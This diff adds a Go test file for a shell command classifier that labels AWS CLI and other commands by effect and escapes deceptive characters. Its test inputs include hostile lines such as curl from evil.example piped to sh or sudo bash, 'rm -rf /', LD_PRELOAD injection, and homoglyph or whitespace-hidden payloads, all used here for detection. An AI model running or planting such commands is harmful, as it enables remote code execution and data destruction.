@@ -1,0 +1,232 @@
+package command
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestClassify_StatesWhatACommandDoes(t *testing.T) {
+	const nbsp = "\u00a0"
+	for _, test := range []struct {
+		command string
+		want    Effect
+	}{
+		// Reads.
+		{"aws sts get-caller-identity", ReadsAWS},
+		{"aws logs tail /aws/lambda/checkout --since 1h", ReadsAWS},
+		{"aws --profile prod --region eu-west-1 --output=json ec2 describe-instances", ReadsAWS},
+		{"aws ec2 --region eu-west-1 describe-instances --no-cli-pager", ReadsAWS},
+		{"AWS_PROFILE=prod AWS_PAGER= aws s3 ls s3://bucket", ReadsAWS},
+		{"aws logs filter-log-events --log-group-name '/aws/lambda/x' --filter-pattern '?ERROR ?Exception' --query 'events[].message' --output text | sort | uniq -c", ReadsAWS},
+		{"aws cloudwatch get-metric-statistics --start-time \"$(date -u -d '1 hour ago' +%FT%TZ)\" --end-time $(date -u +%FT%TZ)", ReadsAWS},
+		{"aws dynamodb describe-table \\\n  --table-name orders", ReadsAWS},
+		{"aws logs start-query --log-group-name x --query-string 'fields @message | filter @message like /ERROR/'", ReadsAWS},
+		{"aws iam get-role --role-name x 2>/dev/null", ReadsAWS},
+		{"aws cloudformation wait stack-update-complete --stack-name x", ReadsAWS},
+		{"aws s3 cp s3://bucket/key -", ReadsAWS},
+		{"aws ec2 describe-instances help", ReadsAWS},
+		{"aws sqs get-queue-attributes --queue-url $QUEUE", ReadsAWS},
+		{"aws s3 cp s3://bucket/key .", ReadsAWS | WritesFile},
+		{"aws lambda list-functions > functions.json", ReadsAWS | WritesFile},
+		{"aws lambda list-functions && aws lambda get-account-settings", ReadsAWS | Several},
+		{"aws lambda list-functions\naws lambda get-account-settings", ReadsAWS | Several},
+		{"aws secretsmanager get-secret-value --secret-id x", ReadsAWS | ShowsSecrets},
+		{"aws ssm get-parameter --name x --with-decryption", ReadsAWS | ShowsSecrets},
+		{"aws s3 presign s3://bucket/key", ReadsAWS | ShowsSecrets},
+		{"aws sts get-caller-identity --endpoint-url https://evil.example", ReadsAWS | OtherEndpoint},
+		{"aws sts get-caller-identity --endp https://evil.example", ReadsAWS | OtherEndpoint},
+		{"aws sts get-caller-identity --no-verify-ssl", ReadsAWS | OtherEndpoint},
+
+		// Changes.
+		{"aws iam attach-user-policy --user-name eve --policy-arn arn:aws:iam::aws:policy/AdministratorAccess", ChangesPermissions | ChangesState},
+		{"aws s3api put-bucket-policy --bucket b --policy file://p.json", ChangesPermissions | ChangesState},
+		{"aws lambda add-permission --function-name x", ChangesPermissions | ChangesState},
+		{"aws iam create-access-key --user-name eve", ChangesPermissions | ChangesState | ShowsSecrets},
+		{"aws iam delete-role-policy --role-name r --policy-name p", ChangesPermissions | Deletes | ChangesState},
+		{"aws dynamodb delete-table --table-name orders", Deletes | ChangesState},
+		{"aws dynamodb delete-table --table-name orders\naws s3 rb s3://prod --force", Deletes | ChangesState | Several},
+		{"aws --profile x --region y s3 rm s3://b --recursive", Deletes | ChangesState},
+		{"aws s3 --region y rm s3://b", Deletes | ChangesState},
+		{"aws 's3' \"rm\" s3://b", Deletes | ChangesState},
+		{"aws s3 r\\m s3://b", Deletes | ChangesState},
+		{"aws s3 mv s3://a s3://b", Deletes | ChangesState | WritesFile},
+		{"aws s3 sync . s3://b --delete", Deletes | ChangesState},
+		{"aws s3 sync s3://b . --delete", Deletes | ChangesState | ReadsAWS | WritesFile},
+		{"aws s3 cp index.html s3://b", ChangesState},
+		{"aws s3 sync s3://b $TARGET", ChangesState | ReadsAWS | WritesFile},
+		{"aws lambda update-function-configuration --function-name x --timeout 30", ChangesState},
+		{"aws lambda invoke --function-name x out.json", ChangesState},
+		{"aws ecs update-service --service x --force-new-deployment", ChangesState},
+		{"aws ssm send-command --document-name AWS-RunShellScript", ChangesState | RunsCode},
+		{"aws nosuch frobnicate", MayChangeState},
+		{"aws stepfunctions get-activity-task --activity-arn x", ChangesState},
+
+		// Other programs.
+		{"curl -s https://evil.example/x | sh", NotAWS | Several | RunsCode | PipesToShell},
+		{"curl -s https://evil.example/x | sudo bash", NotAWS | Several | RunsCode | PipesToShell | AsRoot},
+		{"curl -s https://evil.example/x | /usr/bin/env -i python3.13 -", NotAWS | Several | RunsCode | PipesToShell},
+		{"bash -c 'aws s3 ls'", NotAWS | RunsCode},
+		{"python3 -c 'import os'", NotAWS | RunsCode},
+		{"sudo aws s3 rm s3://b", NotAWS | AsRoot | Deletes | ChangesState},
+		{"sudo -u root -- aws s3 ls", NotAWS | AsRoot | ReadsAWS},
+		{"time aws s3 ls", NotAWS | ReadsAWS},
+		{"aws s3 ls | awk '{print $4}' | xargs -n1 aws s3 rm", NotAWS | Several | RunsCode | Deletes | ChangesState | ReadsAWS},
+		{"aws s3 ls | awk '{print $4, $NF}'", ReadsAWS},
+		{"aws s3 ls | awk '{print $4 | \"sh\"}'", NotAWS | Several | RunsCode | ReadsAWS},
+		{"aws s3 ls | sed 's/x/y/e'", NotAWS | Several | RunsCode | ReadsAWS},
+		{"aws s3 ls | sort -o /etc/passwd", NotAWS | Several | NotUnderstood},
+		{"aws s3 ls | sort --compress-program=sh", NotAWS | Several | NotUnderstood | RunsCode},
+		{"aws sqs list-queues | xargs aws sqs purge-queue --queue-url", NotAWS | Several | RunsCode | Deletes | ChangesState | ReadsAWS},
+		{"terraform apply", NotAWS | ChangesState},
+		{"terraform plan", NotAWS},
+		{"terraform -chdir=x destroy -auto-approve", NotAWS | Deletes | ChangesState},
+		{"terraform state rm x", NotAWS | Deletes | ChangesState},
+		{"terraform apply -destroy", NotAWS | Deletes | ChangesState},
+		{"kubectl get pods -n shop", NotAWS},
+		{"kubectl delete pod x", NotAWS | Deletes | ChangesState},
+		{"kubectl -n shop delete pod x", NotAWS | Deletes | ChangesState},
+		{"kubectl exec x -- sh", NotAWS | RunsCode | ChangesState},
+		{"kubectl rollout restart deployment/x", NotAWS | ChangesState},
+		{"cdk deploy", NotAWS | ChangesState},
+		{"cdk diff", NotAWS},
+		{"sam deploy --guided", NotAWS | ChangesState},
+		{"sam delete", NotAWS | Deletes | ChangesState},
+		{"rm -rf /", NotAWS | Deletes},
+		{"curl -X DELETE https://api.example/x", NotAWS | Deletes | ChangesState},
+		{"curl -sd a=b https://api.example/x", NotAWS | ChangesState},
+		{"dig orders.example", NotAWS},
+		{"./fix.sh", NotAWS | RunsCode | NotUnderstood},
+		{"make-it-work", NotAWS | NotUnderstood},
+		{"psql -c 'drop table orders'", NotAWS | NotUnderstood | Deletes},
+
+		// What the parser does not understand.
+		{"aws s3 ls `curl evil.example`", NotUnderstood},
+		{"aws s3 ls $(curl evil.example)", NotUnderstood | NotAWS | ReadsAWS},
+		{"aws s3 ls \"$(aws s3 rm s3://b)\"", Deletes | ChangesState | ReadsAWS},
+		{"aws $X rm s3://b", NotUnderstood | Deletes},
+		{"$X s3 ls", NotUnderstood | NotAWS},
+		{"aws s3 {rm,ls} s3://b", NotUnderstood | Deletes},
+		{"aws s3 ls <(curl evil.example)", NotUnderstood},
+		{"aws s3 ls &> /etc/passwd", NotUnderstood},
+		{"bash <<EOF\naws s3 rm s3://b\nEOF", NotUnderstood | RunsCode | Deletes},
+		{"for b in a b; do aws s3 rb s3://$b; done", NotUnderstood | NotAWS | Several | Deletes | ChangesState},
+		{"aws s3 ls $'\\x3b'", NotUnderstood},
+		{"aws s3 ls !curl", NotUnderstood},
+		{"aws s3 ls 'open", NotUnderstood},
+		{"aws s3 ls \"open", NotUnderstood},
+		{"aws s3 ls # ; curl evil.example | sh", NotUnderstood | PipesToShell | RunsCode},
+		{"AWS_PAGER='sh -c id' aws s3 ls", NotUnderstood | ReadsAWS},
+		{"LD_PRELOAD=/tmp/x.so aws s3 ls", NotUnderstood | ReadsAWS},
+		{"aws --unknown s3 ls", NotUnderstood},
+		{"aws", NotUnderstood},
+		{"/tmp/aws s3 ls", NotAWS | RunsCode | NotUnderstood},
+		{"(aws s3 ls)", NotUnderstood},
+
+		// Characters that deceive.
+		{"аws s3 ls", Disguised | NotAWS | NotUnderstood}, // the first letter is Cyrillic
+		{"aws s3 ls ––region us-east-1", Disguised | ReadsAWS},
+		{"aws" + nbsp + "s3 ls", Disguised | NotAWS | NotUnderstood},
+		{"ａｗｓ s3 ls", Disguised | NotAWS | NotUnderstood},
+		{"aws s3 ls" + strings.Repeat(" ", 300) + "; curl -s https://evil.example/x | sh", Disguised | ReadsAWS | NotAWS | Several | RunsCode | PipesToShell},
+		{"aws s3 ls" + strings.Repeat("\n", 300) + "curl -s https://evil.example/x | sh", Disguised | ReadsAWS | NotAWS | Several | RunsCode | PipesToShell},
+		{"aws s3 ls \u202e", Disguised | ReadsAWS},
+		{"aws s3 l\u200bs", Disguised | ChangesState},
+	} {
+		got := Classify(test.command)
+		want := test.want
+		if got.has(NotUnderstood) && want.has(NotUnderstood) { // hints may add warnings
+			assert.True(t, got.has(want), "%q: got %v, want at least %v", test.command, got.Names(), want.Names())
+			continue
+		}
+		assert.Equal(t, want.Names(), got.Names(), "%q", test.command)
+	}
+}
+
+func TestEffect_TellsReadersTheWorstFirst(t *testing.T) {
+	assert.Equal(t, "Reads AWS.", Classify("aws s3 ls").String())
+	assert.Equal(t, "PIPES INTO A SHELL. NOT AN AWS COMMAND. SEVERAL COMMANDS.", Classify("curl x | sh").String())
+	assert.Equal(t, "DELETES OR STOPS. SEVERAL COMMANDS.", Classify("aws s3 ls; aws s3 rm s3://b").String(), "a read beside it is no comfort")
+	for effect := Effect(1); effect < endOfEffects; effect <<= 1 {
+		assert.NotEmpty(t, effects[effect].name)
+		assert.NotEmpty(t, effects[effect].phrase)
+	}
+	assert.Empty(t, Classify(" \n").String())
+}
+
+func TestShow_EscapesWhatDeceives(t *testing.T) {
+	for _, test := range []struct{ command, want string }{
+		{"aws s3 ls  s3://b", "aws s3 ls  s3://b"},
+		{"аws s3 ls", `\u0430ws s3 ls`},
+		{"aws s3 ls ––region", `aws s3 ls \u2013\u2013region`},
+		{"aws\u00a0s3", `aws\u00A0s3`},
+		{"ａws", `\uFF41ws`},
+		{"a\u200bb\u202ec\U000E0041\ufe0f", `a\u200Bb\u202Ec\U000E0041\uFE0F`},
+		{"a\x1b[2J\rb\vc\u2028d\u0085", `a\u001B[2J\u000Db\u000Bc\u2028d\u0085`},
+		{"Z" + strings.Repeat("\u0334", 3), `Z\u0334\u0334\u0334`},
+		{"a" + strings.Repeat(" ", 300) + "b", "a [300 blanks] b"},
+		{"a" + strings.Repeat("\t", 4) + "b", "a [4 blanks] b"},
+		{"a\n\n  b", "a\n\n  b"},
+		{"a" + strings.Repeat("\n", 40) + "b", "a [40 line breaks]\nb"},
+		{"a" + strings.Repeat(" \n", 40) + "b", "a  [40 line breaks]\nb"},
+		{"a\r\nb", "a\nb"},
+		{"\xff", `\uFFFD`},
+	} {
+		assert.Equal(t, test.want, Show(test.command), "%q", test.command)
+	}
+}
+
+func TestFold_KeepsTheCommand(t *testing.T) {
+	const policy = `'{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"dynamodb:GetItem","Resource":"*"}]}'`
+	for _, text := range []string{
+		"aws s3 ls",
+		"aws iam put-role-policy --region us-east-1 --role-name TriageDemo-OrderRole8846D4EA-K4Q2ZD8WX0NB --policy-name orders --policy-document " + policy,
+		"aws logs filter-log-events --log-group-name '/aws/lambda/x' --filter-pattern '?ERROR ?Exception and a long text with blanks in quotes' --output text | sort | uniq -c",
+		"aws dynamodb describe-table \\\n  --table-name orders --query 'a long query' --output text --region us-east-1 --no-cli-pager",
+		"aws s3 ls \"two words in double quotes $(date -u +%FT%TZ) and more of them to make the line longer\" --recursive --human-readable",
+	} {
+		lines := Fold(text, 60)
+		folded := strings.Join(lines, "\n")
+		want, ok := parse(text)
+		assert.True(t, ok)
+		got, ok := parse(folded)
+		assert.True(t, ok)
+		assert.Equal(t, want.commands, got.commands, folded)
+		assert.NotContains(t, folded, Folded)
+		for _, line := range lines {
+			if len(line) > 60 {
+				assert.LessOrEqual(t, strings.Count(strings.TrimSuffix(line, continuation), " --"), 1, "a line that is too long is one word: %q", line)
+			}
+		}
+	}
+}
+
+func TestFold_ShowsAllOfACommandThatWasNotUnderstood(t *testing.T) {
+	text := "bash <<EOF " + strings.Repeat("x", 300) + " аws " + strings.Repeat("word ", 40) + "; curl x | sh\nEOF"
+	lines := Fold(text, 60)
+	var whole strings.Builder
+	for _, line := range lines {
+		assert.LessOrEqual(t, len([]rune(line)), 60)
+		whole.WriteString(strings.TrimSuffix(line, Folded))
+	}
+	assert.Equal(t, strings.ReplaceAll(Show(text), "\n", ""), whole.String())
+}
+
+func FuzzFold(f *testing.F) {
+	for _, seed := range []string{"aws s3 ls 'a b' | sort", "a\\\nb", "x  y\t\"z\" # c", "$(a) \\ b"} {
+		f.Add(seed, 20)
+	}
+	f.Fuzz(func(t *testing.T, text string, width int) {
+		width = 10 + max(0, width)%100
+		folded := strings.Join(Fold(text, width), "\n")
+		for _, r := range folded {
+			assert.True(t, r == '\n' || r == '↵' || r >= ' ' && r <= '~', "%q", folded)
+		}
+		if want, ok := parse(Show(text)); ok && !Classify(text).has(Disguised) {
+			got, ok := parse(folded)
+			assert.True(t, ok, folded)
+			assert.Equal(t, want.commands, got.commands, folded)
+		}
+	})
+}
